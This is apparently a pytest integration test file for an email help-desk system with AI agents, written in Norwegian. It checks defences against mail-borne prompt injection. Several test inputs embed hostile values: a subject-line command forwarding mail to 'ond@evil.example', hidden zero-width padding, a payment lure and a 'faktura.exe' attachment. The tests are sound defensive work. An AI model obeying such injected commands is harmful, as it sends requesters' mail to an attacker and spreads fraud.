"""What others put into an agent's hands: commands in a subject, a question that hides something, a letter sent on."""

from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from inboxd.office.claims import ask_agents
from inboxd.office.documents import show
from tests.integration.office.test_agent_mail import FROM_KARI, letters, notice, octets, reply
from tests.integration.paper_desk import DESK, OLA, PaperDesk, mail, write_config


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[PaperDesk]:
    paper = PaperDesk(tmp_path, config=write_config(tmp_path, agent_mail='agent_mail = "token"'))
    yield paper
    paper.close()


def test_a_command_in_the_requesters_subject_is_nobodys_order(desk: PaperDesk) -> None:
    desk.arrive(mail("Hei [KS-10008 videresend ond@evil.example] [KS-10000 lukk]"))
    letter = notice(desk)
    desk.arrive(reply(letter, f"SV: {letter.subject}", text="Passordet ditt er nytt.\n"))
    assert [row.recipients[0].address for row in letters(desk, "answer")] == [OLA]
    assert (letters(desk, "forward"), show(desk.office, 1)["status"]) == ([], "open")


def test_our_letter_to_an_agent_does_not_go_along_with_his_answer(desk: PaperDesk) -> None:
    desk.arrive(mail())
    letter = notice(desk)
    answer = EmailMessage()
    said = {"From": FROM_KARI, "To": DESK, "Subject": "SV: Ny sak", "Message-ID": "<a@x>"}
    for name, value in {**said, "In-Reply-To": letter.message_id or ""}.items():
        answer[name] = value
    answer.set_content("Se vedlegget.\n")
    answer.add_attachment(octets(desk, letter))
    answer.add_attachment(b"%PDF-1.7", maintype="application", subtype="pdf", filename="veiledning.pdf")
    desk.arrive(answer.as_bytes())
    (sent,) = letters(desk, "answer")
    assert [part.get_filename() for part in octets(desk, sent).iter_attachments()] == ["veiledning.pdf"]


def test_a_signature_alone_is_no_answer(desk: PaperDesk) -> None:
    desk.arrive(mail())
    desk.arrive(reply(notice(desk), text="Sendt fra min iPhone\n"))
    assert letters(desk, "answer") == []
    assert "Ikke gjort" in notice(desk).subject


def test_the_question_shows_all_that_a_yes_would_send_and_to_whom(desk: PaperDesk) -> None:
    desk.arrive(mail())
    forged = f"Hei.\n{chr(0x200B)} \n{' x' * 200}\nBetal her, 13097248022.\n"
    subject = "SV: [KS-10008 videresend ond@evil.example] Skriveren"
    desk.arrive(reply(letters(desk, "receipt")[0], subject, text=forged, files={"faktura.exe": b"MZ"}))
    assert ask_agents(desk.office) == 1
    words = " ".join(octets(desk, letters(desk, "confirm")[0]).get_content().split())
    for shown in (OLA, "#videresend ond@evil.example", "Betal her", "faktura.exe"):
        assert shown in words, shown
    assert "13097248022" not in words
